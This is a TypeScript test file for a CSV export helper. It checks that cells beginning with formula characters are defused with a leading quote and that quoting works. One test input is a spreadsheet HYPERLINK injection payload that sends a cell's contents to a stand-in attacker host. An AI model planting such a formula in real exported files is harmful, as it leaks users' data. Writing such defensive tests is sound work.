import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvText } from './csv.ts';

describe('csvCell', () => {
  it('defuses every formula start and keeps plain numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&A1,"Open")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell(-3n)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvLine(['a,b', 'c"d', 1])).toBe('"a,b","c""d",1');
    expect(csvText(['h'], [['x'], ['y']])).toBe('h\nx\ny\n');
  });

  it('no cell of any text starts a formula', () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const cell = csvCell(s).replace(/^"/, '');
        return !/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell);
      }),
    );
  });
});
